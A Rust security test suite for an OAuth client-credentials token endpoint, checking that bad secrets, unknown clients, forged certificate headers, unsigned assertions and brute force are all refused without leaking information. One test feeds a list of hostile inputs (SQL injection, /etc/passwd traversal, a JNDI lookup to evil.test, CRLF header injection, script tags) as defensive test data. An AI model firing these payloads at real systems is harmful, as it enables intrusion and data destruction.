//! Client authentication that must fail, and what the failure must not tell (security CA).

use std::time::Duration;

use lumoauth_tests::{Backend, Response, Server, Stopwatch, on_each_backend, shared, unique};
use serde_json::json;

on_each_backend!(
    wrong_secrets_are_refused,
    unknown_clients_are_refused,
    injections_in_id_and_secret_are_refused,
    wrong_id_and_wrong_secret_cannot_be_told_apart,
    basic_failures_carry_a_basic_challenge,
    form_failures_carry_no_basic_challenge,
    basic_and_form_with_different_ids_are_refused,
    two_methods_at_once_are_refused,
    secret_alone_is_refused,
    id_alone_is_refused,
    credentials_in_the_query_do_not_authenticate,
    secret_of_another_agent_is_refused,
    client_of_another_organization_is_refused,
    identity_types_without_a_secret_cannot_use_one,
    client_assertions_are_refused,
    certificate_headers_authenticate_nobody,
    brute_force_does_not_lock_the_victim_out,
    admin_api_key_is_no_client_secret,
);

fn wrong_secrets_are_refused(server: &Server) {
    let agent = server.acme().agent(&["read:a"]);
    let secret = &agent.secret;
    let swapped: String = secret
        .chars()
        .map(|c| if c.is_ascii_lowercase() { c.to_ascii_uppercase() } else { c.to_ascii_lowercase() })
        .collect();
    let wrong = [
        String::new(),
        "wrong".to_owned(),
        secret[..secret.len() - 1].to_owned(),
        secret[1..].to_owned(),
        format!("{secret}x"),
        format!("{secret} "),
        format!(" {secret}"),
        format!("{secret}\0"),
        format!("{secret}{secret}"),
        swapped,
        "a".repeat(10_000),
        agent.client_id.clone(),
    ];
    for wrong in &wrong {
        assert_ne!(wrong, secret);
        agent.token_request(wrong, &[]).send().refused(401, "invalid_client");
        let basic = agent.org.post("/oauth/token").basic(&agent.client_id, wrong).form(GRANT).send();
        basic.refused(401, "invalid_client");
    }
    agent.ask_token(&[]).ok();
}

fn unknown_clients_are_refused(server: &Server) {
    let agent = server.acme().agent(&[]);
    let id = &agent.client_id;
    let near = [
        unique("cli"),
        id[..id.len() - 1].to_owned(),
        format!("{id}0"),
        id.to_uppercase(),
        agent.agent_id.clone(),
        agent.id.clone(),
        agent.slug.clone(),
    ];
    for wrong in near.iter().filter(|wrong| *wrong != id) {
        let form =
            [("grant_type", "client_credentials"), ("client_id", wrong), ("client_secret", &agent.secret)];
        agent.org.post("/oauth/token").form(&form).send().refused(401, "invalid_client");
    }
}

fn injections_in_id_and_secret_are_refused(server: &Server) {
    let agent = server.acme().agent(&[]);
    let injections = [
        "' OR '1'='1",
        "\" OR 1=1 --",
        "'; DROP TABLE agents; --",
        "*",
        "%",
        "../../etc/passwd",
        "${jndi:ldap://evil.test/a}",
        "{{7*7}}",
        "\u{0}",
        "\r\nSet-Cookie: a=b",
        "\u{202e}evil",
        "<script>alert(1)</script>",
    ];
    for text in injections {
        for (id, secret) in [(text, agent.secret.as_str()), (agent.client_id.as_str(), text), (text, text)] {
            let form = [("grant_type", "client_credentials"), ("client_id", id), ("client_secret", secret)];
            let response = agent.org.post("/oauth/token").form(&form).send();
            assert!(matches!(response.status, 400 | 401), "{text:?}: {response}");
            response.refused_somehow();
            assert!(response.header("set-cookie").is_none());
        }
    }
}

fn wrong_id_and_wrong_secret_cannot_be_told_apart(server: &Server) {
    let agent = server.acme().agent(&[]);
    let suspended = server.acme().agent(&[]);
    suspended.admin("POST", "/deactivate").send().ok();
    let stranger = server.acme().agent(&[]);
    let attempt = |id: &str, secret: &str| {
        let form = [("grant_type", "client_credentials"), ("client_id", id), ("client_secret", secret)];
        agent.org.post("/oauth/token").form(&form).send()
    };

    let wrong_secret = attempt(&agent.client_id, &stranger.secret);
    let wrong_id = attempt(&unique("cli"), &stranger.secret);
    let not_active = attempt(&suspended.client_id, &suspended.secret);

    for other in [&wrong_id, &not_active] {
        assert_eq!(wrong_secret.status, other.status);
        assert_eq!(wrong_secret.body, other.body, "byte by byte");
        assert_eq!(telling_headers(&wrong_secret), telling_headers(other));
    }

    // A figure for the reader, not a verdict: a shared machine's clock is too noisy for one.
    let time = |id: &str| {
        let mut runs: Vec<Duration> = (0..40)
            .map(|_| {
                let watch = Stopwatch::start();
                attempt(id, &stranger.secret);
                watch.elapsed()
            })
            .collect();
        runs.sort_unstable();
        runs[runs.len() / 2]
    };
    let (known, unknown) = (time(&agent.client_id), time(&unique("cli")));
    eprintln!("median refusal: known id {known:?}, unknown id {unknown:?}");
}

fn basic_failures_carry_a_basic_challenge(server: &Server) {
    let agent = server.acme().agent(&[]);
    let response = agent.org.post("/oauth/token").basic(&agent.client_id, "wrong").form(GRANT).send();
    response.refused(401, "invalid_client");
    let challenge = response.header("www-authenticate").unwrap_or_default();
    assert!(challenge.starts_with("Basic"), "{response}");
}

fn form_failures_carry_no_basic_challenge(server: &Server) {
    let response = server.acme().agent(&[]).token_request("wrong", &[]).send();
    response.refused(401, "invalid_client");
    assert!(!response.header("www-authenticate").unwrap_or_default().contains("Bearer"), "{response}");
}

fn basic_and_form_with_different_ids_are_refused(server: &Server) {
    let (one, two) = (server.acme().agent(&[]), server.acme().agent(&[]));
    let form = [("grant_type", "client_credentials"), ("client_id", two.client_id.as_str())];
    let request = one.org.post("/oauth/token").basic(&one.client_id, &one.secret);
    request.clone().form(&form).send().refused(400, "invalid_request");
    let form = [form[0], form[1], ("client_secret", two.secret.as_str())];
    request.form(&form).send().refused(400, "invalid_request");
}

fn two_methods_at_once_are_refused(server: &Server) {
    let agent = server.acme().agent(&[]);
    let request = agent.token_request("wrong", &[]).basic(&agent.client_id, &agent.secret);
    let response = request.send();
    assert!(matches!(response.status, 400 | 401), "{response}");
    response.refused_somehow();
}

fn secret_alone_is_refused(server: &Server) {
    let agent = server.acme().agent(&[]);
    let form = [GRANT[0], ("client_secret", &agent.secret)];
    let response = agent.org.post("/oauth/token").form(&form).send();
    assert!(matches!(response.status, 400 | 401), "{response}");
    response.refused_somehow();
}

fn id_alone_is_refused(server: &Server) {
    let agent = server.acme().agent(&[]);
    let form = [GRANT[0], ("client_id", &agent.client_id)];
    agent.org.post("/oauth/token").form(&form).send().refused(401, "invalid_client");
    agent.org.post("/oauth/token").form(GRANT).send().refused(401, "invalid_client");
}

fn credentials_in_the_query_do_not_authenticate(server: &Server) {
    let agent = server.acme().agent(&[]);
    let query = format!("?client_id={}&client_secret={}", agent.client_id, agent.secret);
    let response = agent.org.post(&format!("/oauth/token{query}")).form(GRANT).send();
    assert!(matches!(response.status, 400 | 401), "{response}");
    response.refused_somehow();
    let query = format!("{query}&grant_type=client_credentials");
    let response = agent.org.post(&format!("/oauth/token{query}")).send();
    assert!(matches!(response.status, 400 | 401), "{response}");
}

fn secret_of_another_agent_is_refused(server: &Server) {
    let (one, two) = (server.acme().agent(&[]), server.acme().agent(&[]));
    one.token_request(&two.secret, &[]).send().refused(401, "invalid_client");
}

fn client_of_another_organization_is_refused(server: &Server) {
    let agent = server.acme().agent(&[]);
    let form = [GRANT[0], ("client_id", &agent.client_id), ("client_secret", &agent.secret)];
    server.globex().post("/oauth/token").form(&form).send().refused(401, "invalid_client");
}

fn identity_types_without_a_secret_cannot_use_one(server: &Server) {
    for identity in ["workload_identity", "aauth", "api_key"] {
        let agent = server.acme().create_agent(json!({ "identityType": identity }));
        let secret = if agent.secret.is_empty() { "guess" } else { agent.secret.as_str() };
        agent.token_request(secret, &[]).send().refused(401, "invalid_client");
        agent.token_request("", &[]).send().refused(401, "invalid_client");
        if !agent.api_key.is_empty() {
            agent.token_request(&agent.api_key, &[]).send().refused(401, "invalid_client");
        }
    }
}

fn client_assertions_are_refused(server: &Server) {
    let agent = server.acme().agent(&[]);
    let assertion = lumoauth_tests::unsigned(&json!({ "alg": "none" }), &json!({ "sub": agent.client_id }));
    let kind = "urn:ietf:params:oauth:client-assertion-type:jwt-bearer";
    let form = [GRANT[0], ("client_assertion_type", kind), ("client_assertion", &assertion)];
    let with_id = [form[0], form[1], form[2], ("client_id", &agent.client_id)];
    for form in [&form[..], &with_id[..]] {
        let response = agent.org.post("/oauth/token").form(form).send();
        assert!(matches!(response.status, 400 | 401), "{response}");
        response.refused_somehow();
    }
}

fn certificate_headers_authenticate_nobody(server: &Server) {
    let agent = server.acme().agent(&[]);
    let form = [GRANT[0], ("client_id", &agent.client_id)];
    let mut request = agent.org.post("/oauth/token").form(&form);
    for name in ["X-Client-Cert", "X-SSL-Client-Verify", "X-Forwarded-Client-Cert", "X-Remote-User"] {
        request = request.header(name, "SUCCESS");
    }
    request.send().refused(401, "invalid_client");
}

fn brute_force_does_not_lock_the_victim_out(server: &Server) {
    let agent = server.acme().agent(&[]);
    for _ in 0..50 {
        agent.token_request("guess", &[]).send().refused(401, "invalid_client");
    }
    agent.ask_token(&[]).ok();
}

fn admin_api_key_is_no_client_secret(server: &Server) {
    let agent = server.acme().agent(&[]);
    agent.token_request(agent.org.key(), &[]).send().refused(401, "invalid_client");
    let request = agent.org.post("/oauth/token").form(GRANT).api_key(agent.org.key());
    request.send().refused(401, "invalid_client");
}

#[test]
fn all_backends_refuse_with_the_same_bytes() {
    let refusals = Backend::ALL.map(|backend| {
        let form = [GRANT[0], ("client_id", "nobody"), ("client_secret", "nothing")];
        shared(backend).acme().post("/oauth/token").form(&form).send()
    });
    for refusal in &refusals {
        assert_eq!(refusal.body, refusals[0].body);
    }
}

/// Headers that differ between two equal answers anyway are left out.
fn telling_headers(response: &Response) -> Vec<(String, String)> {
    let mut headers: Vec<(String, String)> = response
        .headers
        .iter()
        .map(|(name, value)| (name.to_ascii_lowercase(), value.clone()))
        .filter(|(name, _)| !matches!(name.as_str(), "date" | "x-request-id"))
        .collect();
    headers.sort_unstable();
    headers
}

const GRANT: &[(&str, &str)] = &[("grant_type", "client_credentials")];
